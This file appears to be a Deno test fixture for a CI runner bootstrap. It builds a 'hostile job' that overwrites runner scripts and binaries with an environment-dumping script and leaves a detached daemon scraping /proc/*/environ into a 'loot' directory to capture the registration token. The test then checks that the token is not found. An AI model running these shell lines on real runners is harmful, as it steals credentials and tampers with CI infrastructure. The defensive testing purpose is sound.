/**
 * A hostile job for the bootstrap's trust tests: a job step (for the fake runner's
 * `github/job-step`) that goes after the registration token the ways a job without root can. It
 * rewrites every runner file it can in its working directory (the runner's), in place or by
 * replacing it (the directory is the job user's), with a script that saves its environment and
 * input into `loot`; and it leaves a daemon, out of the runner's process group, that copies every
 * process environment it can read into `loot`. It prints `rewritten N`. Afterwards no file of
 * `loot` may hold the token ({@link stolen}).
 */
import { join } from "node:path";

/** The job step's lines. */
export function hostileJobLines(loot: string): string[] {
  const thief = `#!/bin/bash\nenv >>'${loot}/env-'$$; cat >>'${loot}/stdin-'$$ </dev/null\n`;
  return [
    `thief='${thief.replaceAll("'", "'\\''")}'`,
    "rewritten=0",
    "for f in config.sh run.sh env.sh run-helper.sh.template bin/Runner.Listener " +
    "bin/installdependencies.sh .env .path; do",
    '  if printf "%s" "$thief" >"$f" 2>/dev/null || ' +
    '{ rm -f "$f" 2>/dev/null && printf "%s" "$thief" >"$f" && chmod +x "$f"; }; then',
    "    rewritten=$((rewritten + 1))",
    "  fi",
    "done",
    'echo "rewritten $rewritten"',
    `(setsid bash -c 'while true; do cat /proc/[0-9]*/environ >>"${loot}/environ" 2>/dev/null; ` +
    "sleep 0.2; done' </dev/null >/dev/null 2>&1 &)",
  ];
}

/** Makes `loot` (writable by every user) and returns it. */
export async function makeLoot(dir: string): Promise<string> {
  const loot = join(dir, "loot");
  await Deno.mkdir(loot, { recursive: true });
  await Deno.chmod(loot, 0o777);
  return loot;
}

/** The files of `loot` that hold `token`. */
export async function stolen(loot: string, token: string): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir(loot)) {
    if ((await Deno.readTextFile(join(loot, entry.name))).includes(token)) found.push(entry.name);
  }
  return found;
}
